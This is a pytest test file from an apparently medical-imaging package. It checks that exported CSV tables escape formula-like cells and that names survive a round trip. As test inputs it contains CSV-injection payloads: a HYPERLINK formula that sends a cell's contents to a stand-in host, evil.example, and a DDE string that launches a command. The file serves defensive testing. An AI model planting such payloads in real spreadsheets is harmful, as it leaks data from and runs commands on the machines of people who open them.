"""Tables for spreadsheets: no name in them is a formula, and all of them are read as they were meant."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

import osteon
from osteon.core.geometry import Geometry
from osteon.core.labels import Segmentation, make_structures
from osteon.core.spreadsheets import escape_cell, read_rows, tabulate, to_csv
from osteon.exporting.run import export
from osteon.formats import write_segmentation
from osteon.importing.pseudonyms import Patient, Pseudonyms

EVIL = '=HYPERLINK("http://evil.example/"&A1,"femur")'
OWN = {"core/spreadsheets.py", "formats/rle.py"}
"""The writer itself, and tables of RLE, whose names programs compare."""
NAMES = st.text(st.characters(codec="utf-8", exclude_characters="\r\n\0"))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, f"'{EVIL}"),
        ("+1-cmd|' /C calc'!A0", "'+1-cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\uff1d1", "'\uff1d1"),
        ("'=1", "''=1"),
        ("-3.5", "-3.5"),
        ("+1e-05", "+1e-05"),
        ("femur_left", "femur_left"),
        ("L4-5", "L4-5"),
        ("'quoted'", "'quoted'"),
        ("", ""),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_what_begins_as_a_formula_is_text_and_numbers_stay_numbers(value: object, written: object) -> None:
    assert escape_cell(value) == written


@given(st.lists(NAMES, min_size=1, max_size=4, unique=True))
def test_every_name_is_read_as_it_was_meant(names: list[str]) -> None:
    written = to_csv(tabulate([{"n": name, "x": -0.5} for name in names], ["n", "x"]))
    assert [row["n"] for row in read_rows(io.StringIO(written, newline=""))] == names
    assert len({escape_cell(name) for name in names}) == len(names)
    for row in csv.reader(io.StringIO(written, newline="")):
        assert not row[0].startswith(("=", "@")), row
        assert row[1] in ("x", "-0.5")


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as stream:
        return [text for row in csv.reader(stream) for text in row]


def evil_result(folder: Path) -> Path:
    """A result, and a reference, with a structure that a stranger named."""
    array = np.zeros((6, 6, 6), dtype=np.uint8)
    array[2:4, 2:4, 2:4] = 1
    made = Segmentation(array, Geometry(array.shape, np.eye(4)), make_structures([EVIL]))
    write_segmentation(folder / "c0.seg.nrrd", made)
    return folder


def test_tables_of_scores_and_volumes_hold_no_formula(tmp_path: Path) -> None:
    result = evil_result(tmp_path / "result")
    osteon.evaluate(result, evil_result(tmp_path / "reference"), out=tmp_path / "scores")
    export("table", [result], tmp_path / "table")
    tables = [tmp_path / "scores/metrics.csv", tmp_path / "table/volumes.csv"]
    for table in tables:
        assert f"'{EVIL}" in cells(table)
        assert not [text for text in cells(table) if text.startswith("=")]
    with tables[1].open(encoding="utf-8", newline="") as stream:
        assert [row["structure"] for row in read_rows(stream)] == [EVIL]
    with tables[0].open(encoding="utf-8", newline="") as stream:
        assert math.isfinite(float(next(read_rows(stream))["dice"]))


def test_a_patient_s_name_is_no_formula_and_keeps_its_key(tmp_path: Path) -> None:
    source = tmp_path / "source"
    source.mkdir()
    evil = Patient("=1+1", EVIL)
    made = Pseudonyms(source, [evil])
    made.write()
    table = source / "osteon-pseudonyms.csv"
    assert not [text for text in cells(table) if text.startswith("=")]
    assert Pseudonyms(source, [Patient("2", "Somebody"), evil]).key(evil) == "p001"


def test_every_table_is_written_by_the_one_writer() -> None:
    source = Path(osteon.__file__).parent
    writers = {
        path.relative_to(source).as_posix()
        for path in source.rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8") or "csv.DictWriter(" in path.read_text(encoding="utf-8")
    }
    assert writers == OWN
